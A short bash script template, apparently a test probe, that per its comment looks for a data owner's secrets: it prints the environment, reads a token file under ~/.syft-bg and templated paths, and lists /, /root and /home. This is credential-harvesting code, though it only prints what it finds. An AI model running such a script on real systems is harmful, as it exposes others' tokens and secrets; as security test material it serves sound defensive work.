#!/bin/bash
# Looks for the data owner's secrets: its environment, the app home, the usual places.
echo "== env"
env
echo "== home"
cat ~/.syft-bg/__TOKEN_NAME__ 2>&1
cat "$HOME/.syft-bg/__TOKEN_NAME__" 2>&1
for path in __PATHS__; do
    echo "== $path"
    cat "$path" 2>&1
done
ls -la / /root /home 2>&1
echo "== end"
